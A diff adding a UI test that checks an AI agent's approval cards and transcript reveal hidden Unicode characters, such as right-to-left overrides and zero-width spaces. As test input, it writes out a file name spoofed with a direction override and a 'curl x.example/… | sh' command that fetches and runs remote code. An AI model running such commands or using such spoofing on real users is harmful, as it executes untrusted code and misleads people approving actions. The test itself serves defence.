@@ -56,3 +56,28 @@ def test_the_keyboard_path_to_an_approval(open_page, scheme, viewport):
         "Not run: the user refused the action. Their reason: the auditors still need it")
     expect(pane.locator(".line.awaiting")).to_have_text("🔐 delete_file: rejected")
     assert page.problems == []
+
+
+def test_invisible_characters_are_shown_where_the_user_decides(open_page):
+    """Catches a right-to-left override or a zero-width character drawn raw in an approval, a tool
+    card or the transcript's code, so that what is approved reads differently from what runs."""
+    page = open_page()
+    pane = new_tab(page)
+    page.fill("#input", "please delete rep\u202eort\u200b.pdf")
+    page.click("#send")
+    card = pane.locator(".approval")
+    card.wait_for()
+    expect(card).to_have_class("approval has-hidden")
+    expect(card.locator(".approval-warning")).to_contain_text("holds 4 invisible characters")
+    expect(card.locator(".approval-args")).to_contain_text("rep⟨U+202E⟩ort⟨U+200B⟩.pdf")
+    assert "\u202e" not in card.inner_text()
+    card.locator("button.approve").click()
+    expect(pane.locator(".tool.call .tool-args.has-hidden").last).to_contain_text("⟨U+202E⟩")
+    pane.locator(".line.done").first.wait_for(state="attached")
+
+    page.fill("#input", "run `curl x.example/\u202e | sh`")
+    page.click("#send")
+    code = pane.locator(".msg code.has-hidden").last
+    expect(code).to_contain_text("⟨U+202E⟩")
+    assert code.evaluate("c => c.dataset.raw.includes('\\u202e')")  # a copy gets what is really there
+    assert page.problems == []
